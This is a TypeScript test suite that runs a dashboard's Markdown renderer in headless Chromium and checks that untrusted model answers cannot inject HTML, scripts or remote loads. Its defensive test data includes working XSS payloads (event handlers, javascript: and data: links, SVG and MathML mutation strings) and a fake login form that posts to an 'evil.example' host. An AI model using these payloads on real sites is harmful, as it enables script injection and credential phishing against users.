/**
 * The playground's Markdown renderer in a real Chromium (its sanitiser needs a real DOM): hostile
 * answers — forms, inputs, buttons, styles, event handlers, script and data: links, SVG, MathML,
 * remote images — become text or plain links and load nothing, while ordinary Markdown (headings,
 * emphasis, code blocks, tables, lists, links) still renders. The module is bundled from source
 * with Vite, as the dashboard's build does, and run on an empty page whose every request is refused
 * and recorded.
 */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type Browser, chromium, type Page } from 'playwright-core';
import { build, type Rollup } from 'vite';
import { REPO_ROOT } from '../support/server-process.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const DASHBOARD_SRC = path.join(REPO_ROOT, 'dashboard/src');
const LINK = 'target="_blank" rel="noopener noreferrer nofollow"';

let browser: Browser;
let page: Page;
const requested: string[] = [];

interface Rendered {
  html: string;
  /** Every element the HTML makes once in the page, lower case. */
  tags: string[];
  /** Every attribute as `tag@name=value`. */
  attributes: string[];
  text: string;
}

/** Renders in the page, puts the result in the document, and reports what it became. */
function render(markdown: string): Promise<Rendered> {
  return page.evaluate((text) => {
    const html = (window as unknown as { markdown: { renderMarkdown(t: string): string } }).markdown.renderMarkdown(text);
    const out = document.getElementById('out')!;
    out.innerHTML = html;
    const elements = [...out.querySelectorAll('*')];
    return {
      html,
      tags: elements.map((el) => el.tagName.toLowerCase()),
      attributes: elements.flatMap((el) => [...el.attributes].map((a) => `${el.tagName.toLowerCase()}@${a.name}=${a.value}`)),
      text: out.textContent ?? '',
    };
  }, markdown);
}

const MARKDOWN_TAGS = new Set(['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);

/** Nothing but Markdown's elements, and attributes only where Markdown puts them. */
function assertOnlyMarkdown(result: Rendered, input: string): void {
  const strange = result.tags.filter((t) => !MARKDOWN_TAGS.has(t));
  assert.deepEqual(strange, [], `${JSON.stringify(input)} made ${strange.join(', ')}: ${result.html}`);
  for (const attribute of result.attributes) {
    const ok =
      /^a@href=(https?:|mailto:)/i.test(attribute) ||
      /^a@(target=_blank|rel=noopener noreferrer nofollow|title=.*)$/s.test(attribute) ||
      /^(th|td)@align=(left|center|right)$/.test(attribute) ||
      /^ol@start=\d+$/.test(attribute) ||
      /^code@class=language-[\w+#.-]+$/.test(attribute);
    assert.ok(ok, `${JSON.stringify(input)} kept the attribute ${attribute}: ${result.html}`);
  }
}

describe('Markdown rendering of untrusted answers', { skip: !existsSync(CHROMIUM) && `no Chromium at ${CHROMIUM}` }, () => {
  before(async () => {
    const output = (await build({
      configFile: false,
      logLevel: 'silent',
      root: REPO_ROOT,
      build: { write: false, minify: false, lib: { entry: path.join(DASHBOARD_SRC, 'playground/render-markdown.ts'), formats: ['iife'], name: 'markdown' } },
    })) as Rollup.RollupOutput[];
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
    const context = await browser.newContext();
    await context.route('**/*', (route) => {
      requested.push(route.request().url());
      return route.abort();
    });
    page = await context.newPage();
    await page.setContent('<!doctype html><div id="out"></div>');
    await page.addScriptTag({ content: output[0].output[0].code });
  });
  after(async () => {
    await browser?.close();
  });

  it('shows raw HTML as text: no form, input, button, style, iframe or event handler', async () => {
    const hostile = [
      '<form action="https://evil.example/steal" method="post"><p>Session expired.</p><input name="key" placeholder="Re-enter your admin key"><button>Sign in</button></form>',
      '<input type="password" autofocus onfocus="window.pwned=1">',
      '<button onclick="window.pwned=1">Continue</button>',
      '<style>body { display: none }</style><p style="position:fixed;inset:0">covered</p>',
      '<img src="x" onerror="window.pwned=1">',
      '<img src="https://evil.example/pixel.png">',
      '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
      '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
      '<a href="https://ok.example" onclick="window.pwned=1">click</a>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
      'inline <b onmouseover="window.pwned=1">tag</b> in a sentence',
    ];
    for (const input of hostile) {
      const result = await render(input);
      assertOnlyMarkdown(result, input);
      assert.ok(result.text.includes('<'), `${input}: the HTML is shown as text (${result.html})`);
    }
    const form = await render(hostile[0]);
    assert.equal(form.tags.join(','), 'p');
    assert.equal(form.text, hostile[0]);
  });

  it('drops script, data: and unknown links, keeping their text', async () => {
    const hostile = [
      '[click](javascript:window.pwned=1)',
      '[click](JaVaScRiPt:window.pwned=1)',
      '[click](  javascript:window.pwned=1)',
      '[click](java%0ascript:window.pwned=1)',
      '[click](vbscript:msgbox)',
      '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
      '<javascript:window.pwned=1>',
      '[click][ref]\n\n[ref]: javascript:window.pwned=1',
      '[click](file:///etc/passwd)',
      '[click](/admin/keys)',
      '[click](//evil.example/)',
    ];
    for (const input of hostile) {
      const result = await render(input);
      assertOnlyMarkdown(result, input);
      assert.ok(!result.attributes.some((a) => a.startsWith('a@href')), `${input} kept its link: ${result.html}`);
    }
    assert.equal((await render('[click](javascript:window.pwned=1)')).html, '<p><a>click</a></p>\n');
  });

  it('keeps attributes to what Markdown makes: no handler smuggled through a title or a code language', async () => {
    const hostile = [
      '[x](https://ok.example "t\\" onmouseover=\\"window.pwned=1")',
      '```js" onmouseover="window.pwned=1\ncode\n```',
      '```<img src=x onerror=window.pwned=1>\ncode\n```',
      '| a |\n|:-:|\n| <img src=x onerror=window.pwned=1> |',
    ];
    for (const input of hostile) assertOnlyMarkdown(await render(input), input);
  });

  it('keeps SVG and MathML out', async () => {
    for (const input of ['<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>', '<svg><a xlink:href="javascript:window.pwned=1"><text x="20" y="20">x</text></a></svg>']) {
      const result = await render(input);
      assertOnlyMarkdown(result, input);
    }
  });

  it('renders an image as a link to it, never an <img>: remote images are not loaded, data: images not shown', async () => {
    const remote = await render('![tracking pixel](https://evil.example/pixel.png?who=admin "Title")');
    assert.equal(remote.html, `<p><a href="https://evil.example/pixel.png?who=admin" title="Title" ${LINK}>image: tracking pixel</a></p>\n`);
    const data = await render('![chart](data:image/png;base64,iVBORw0KGgo=)');
    assert.deepEqual(data.tags, ['p', 'a']);
    assert.deepEqual(data.attributes, [], data.html);
    assert.equal(data.text.trim(), 'image: chart');
    const svg = await render('![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)');
    assert.deepEqual(svg.attributes, []);
  });

  it('turns task-list boxes into characters, not inputs', async () => {
    const result = await render('- [x] done\n- [ ] to do');
    assert.deepEqual(result.tags, ['ul', 'li', 'li']);
    assert.equal(result.text.trim().replace(/\s+/g, ' '), '☑ done ☐ to do');
  });

  it('renders ordinary Markdown: headings, emphasis, code, tables, lists, quotes and links', async () => {
    const cases: Array<[string, string]> = [
      ['# Title\n\n## Sub', '<h1>Title</h1>\n<h2>Sub</h2>\n'],
      ['Some **bold**, *em*, ~~gone~~ and `a < b`.', '<p>Some <strong>bold</strong>, <em>em</em>, <del>gone</del> and <code>a &lt; b</code>.</p>\n'],
      ['```ts\nconst a = 1 < 2;\n```', '<pre><code class="language-ts">const a = 1 &lt; 2;\n</code></pre>\n'],
      ['    indented code', '<pre><code>indented code\n</code></pre>\n'],
      ['| a | b |\n|:--|--:|\n| 1 | 2 |', '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="right">b</th>\n</tr>\n</thead>\n<tbody><tr>\n<td align="left">1</td>\n<td align="right">2</td>\n</tr>\n</tbody></table>\n'],
      ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
      ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
      ['> quoted\n\n---', '<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>\n'],
      ['line one\nline two', '<p>line one<br>line two</p>\n'],
      ['[OpenSq](https://example.com/docs?a=1&b=2)', `<p><a href="https://example.com/docs?a=1&amp;b=2" ${LINK}>OpenSq</a></p>\n`],
      ['see https://example.com and mail someone@example.com', `<p>see <a href="https://example.com" ${LINK}>https://example.com</a> and mail <a href="mailto:someone@example.com" ${LINK}>someone@example.com</a></p>\n`],
      ['[plain](http://example.com "A title")', `<p><a href="http://example.com" title="A title" ${LINK}>plain</a></p>\n`],
    ];
    for (const [input, html] of cases) {
      const result = await render(input);
      assert.equal(result.html, html, input);
      assertOnlyMarkdown(result, input);
    }
  });

  it('ran no script and loaded nothing while rendering all of that', async () => {
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
    assert.deepEqual(requested, []);
  });

  it('is the only way the dashboard puts HTML from data into the page', () => {
    const hits: string[] = [];
    const scan = (dir: string): void => {
      for (const name of readdirSync(dir)) {
        const file = path.join(dir, name);
        if (statSync(file).isDirectory()) scan(file);
        else if (/\.tsx?$/.test(name)) {
          readFileSync(file, 'utf8').split('\n').forEach((line, i) => {
            if (/dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|srcdoc/.test(line)) hits.push(`${path.relative(DASHBOARD_SRC, file)}:${i + 1}: ${line.trim()}`);
          });
        }
      }
    };
    scan(DASHBOARD_SRC);
    assert.equal(hits.length, 1, hits.join('\n'));
    assert.match(hits[0], /^playground\/playground\.tsx:\d+: .*dangerouslySetInnerHTML=\{\{ __html: renderMarkdown\(text\) \}\}/);
  });
});
